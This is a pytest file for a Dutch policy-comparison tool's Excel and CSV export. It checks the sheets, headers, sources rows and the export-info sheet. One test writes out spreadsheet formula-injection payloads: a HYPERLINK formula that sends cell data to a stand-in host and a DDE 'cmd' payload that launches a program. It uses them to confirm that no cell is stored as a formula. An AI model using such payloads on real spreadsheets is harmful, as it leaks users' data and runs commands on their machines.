"""The comparison as Excel and CSV, read back as a person's spreadsheet would: one sheet per
part with the full texts, a "Bronnen" sheet with document, section, quote and address,
"Over deze export" with the records, role, filters, date and link, and no formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from policy_model.comparison.text_rows import requirement_text_rows, route_text_rows
from policy_model.reports.comparison_export import (
    SOURCE_COLUMNS,
    ExportContext,
    Part,
    comparison_csv_bytes,
    comparison_xlsx_bytes,
)
from policy_model.tabular import ABOUT_SHEET, MAX_WIDTH, MIN_WIDTH, WIDEST

LINK = "https://gli.example/voorwaarden?beleid=cz-2027&beleid=vgz-2024&rol=RHO"
CONTEXT = ExportContext("Contractvoorwaarden", dt.date(2026, 12, 2), "RHO",
                        (("Alleen onderwerpen die verschillen", "nee"),), LINK)


def _parts(policies):
    return [Part("Eisen per onderwerp", "Onderwerp", requirement_text_rows(policies, "rho")),
            Part("Contracteerroutes", "Route", route_text_rows(policies))]


@pytest.fixture(scope="module")
def chosen(cat):
    return [cat.policy_by_key("cz-2027"), cat.policy_by_key("vgz-2024")]


@pytest.fixture(scope="module")
def book(cat, chosen):
    return openpyxl.load_workbook(io.BytesIO(comparison_xlsx_bytes(cat, chosen, _parts(chosen), CONTEXT)))


def test_one_sheet_per_part_then_the_sources_then_what_the_export_is(book):
    assert book.sheetnames == ["Eisen per onderwerp", "Contracteerroutes", "Bronnen", ABOUT_SHEET]
    assert book.active.title == "Eisen per onderwerp"


def test_a_part_sheet_has_a_bold_frozen_filtered_header_and_set_widths(book, chosen):
    ws = book["Eisen per onderwerp"]
    header = [c.value for c in ws[1]]
    assert header == ["Onderwerp", "Verschilt in", "CZ 2027", "VGZ 2024"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "B2"  # header and the subject column stay in view
    assert ws.auto_filter.ref == f"A1:D{ws.max_row}"
    widths = {col: ws.column_dimensions[col].width for col in "ABCD"}
    assert all(MIN_WIDTH <= w <= WIDEST for w in widths.values())
    assert widths["C"] >= MAX_WIDTH and widths["D"] >= MAX_WIDTH  # the full texts get room and wrap
    assert all(ws.cell(row=2, column=c).alignment.wrap_text for c in range(1, 5))
    text = "\n".join(str(c.value) for row in ws.iter_rows(min_row=2) for c in row)
    for requirement in chosen[1].requirements:
        if requirement.force == "minimum" and "rho" in requirement.roles and requirement.kind == "provider":
            assert requirement.text in text  # who may take part has a sheet of its own


def test_the_sources_sheet_has_one_row_per_statement_with_document_section_quote_and_address(book, cat, chosen):
    ws = book["Bronnen"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == list(SOURCE_COLUMNS)
    assert ws.freeze_panes == "C2" and ws.auto_filter.ref == f"A1:K{ws.max_row}"
    records = [dict(zip(SOURCE_COLUMNS, r, strict=True)) for r in rows[1:]]
    vgz = cat.policy_by_key("vgz-2024")
    requirement = next(r for r in vgz.requirements if r.force == "minimum" and "rho" in r.roles)
    row = next(r for r in records if r["Tekst"] == requirement.text)
    doc = cat.source(requirement.source.document)
    assert row["Beleid"] == "VGZ 2024" and row["Onderdeel"] == "Eisen per onderwerp"
    assert row["Paragraaf"] == requirement.source.section
    assert row["Citaat"] == f"“{requirement.source.quote}”"
    assert row["Document"] == f"{doc.publisher}: {doc.title}" and row["Adres"] == doc.url
    address = next(c for c in ws["K"][1:] if c.value == doc.url)
    assert address.hyperlink.target == doc.url
    # Every topic of every record has a row, never a blank that reads as "nee": where both
    # documents list their routes in full, one without a route says so ("Geen eigen route").
    topics = {(part.title, row.label) for part in _parts(chosen) for row in part.rows}
    for label in ("CZ 2027", "VGZ 2024"):
        assert {(r["Onderdeel"], r["Onderwerp"]) for r in records if r["Beleid"] == label} == topics
    assert any(r["Soort"] == "Geen eigen route" and r["Beleid"] == "VGZ 2024" and r["Onderwerp"] == "Uitloopovereenkomst"
               for r in records)


def test_silence_is_a_row_of_its_own(cat):
    # CZ 2024's summary page does not settle the routes: its silence is "niet vermeld", a row.
    policies = [cat.policy_by_key("cz-2024"), cat.policy_by_key("zz-2024")]
    book = openpyxl.load_workbook(io.BytesIO(comparison_xlsx_bytes(cat, policies, _parts(policies), CONTEXT)))
    records = [dict(zip(SOURCE_COLUMNS, r, strict=True)) for r in list(book["Bronnen"].iter_rows(values_only=True))[1:]]
    assert any(r["Soort"] == "Niet vermeld" and r["Tekst"] == "– Niet vermeld in het beleid" for r in records)


def test_the_about_sheet_says_which_records_role_filters_date_and_link(book):
    ws = book[ABOUT_SHEET]
    lines = {r[0]: r[1] for r in ws.iter_rows(min_row=3, values_only=True) if r[0]}
    assert ws["A1"].value == "GLI-inkoopwijzer – Contractvoorwaarden: CZ 2027 · VGZ 2024" and ws["A1"].font.bold
    assert lines["Beleidsdocumenten"] == "CZ 2027 (Volledig beleidsdocument); VGZ 2024 (Volledig beleidsdocument)"
    assert lines["Rol"] == "RHO"
    assert lines["Alleen onderwerpen die verschillen"] == "nee"
    assert lines["Gemaakt op"] == "2 december 2026"
    assert lines["Link naar deze weergave"] == LINK
    assert "geen ‘nee’" in lines["Niet vermeld ≠ nee"]
    assert "Bronnen: één rij per uitspraak" in lines["Bladen"]
    link = next(c for c in ws["B"] if c.value == LINK)
    assert link.hyperlink.target == LINK
    assert ws.column_dimensions["B"].width >= 80


def test_no_cell_is_a_formula_even_when_a_text_starts_like_one(cat, chosen):
    policy = chosen[0]
    first = next(i for i, r in enumerate(policy.requirements) if r.force == "minimum" and "rho" in r.roles)
    requirements = list(policy.requirements)
    evil = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
    requirements[first] = requirements[first].model_copy(update={"text": evil})
    hostile = [policy.model_copy(update={"requirements": requirements}), chosen[1]]
    context = ExportContext("Contractvoorwaarden", dt.date(2026, 12, 2), link="=cmd|' /C calc'!A0")
    book = openpyxl.load_workbook(io.BytesIO(comparison_xlsx_bytes(cat, hostile, _parts(hostile), context)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    written = [c for c in cells if c.value == evil]
    assert written and all(c.quotePrefix for c in written)
    link = next(c for c in book[ABOUT_SHEET]["B"] if c.value == "=cmd|' /C calc'!A0")
    assert link.hyperlink is None and link.quotePrefix


def test_the_csv_is_the_sources_table(cat, chosen):
    data = comparison_csv_bytes(cat, chosen, _parts(chosen))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert list(rows[0]) == list(SOURCE_COLUMNS)
    assert {r["Onderdeel"] for r in rows} == {"Eisen per onderwerp", "Contracteerroutes"}
    # Every statement has its quote; silence ("Niet vermeld") and what a full list leaves out
    # ("Niet gesteld", "Geen eigen route") are no statement of the document and have none.
    assert all(r["Citaat"] for r in rows if r["Soort"] not in ("Niet vermeld", "Niet gesteld", "Geen eigen route"))
    assert all(r["Tekst"].startswith("Staat niet bij") for r in rows if r["Soort"] == "Niet gesteld")


def test_an_export_without_rows_still_opens_with_its_header(cat, chosen):
    book = openpyxl.load_workbook(io.BytesIO(comparison_xlsx_bytes(cat, chosen, [Part("Tarieven", "Tarief", [])],
                                                                   CONTEXT)))
    assert [c.value for c in book["Bronnen"][1]] == list(SOURCE_COLUMNS)
    assert [c.value for c in book["Tarieven"][1]] == ["Tarief", "Verschilt in", "CZ 2027", "VGZ 2024"]
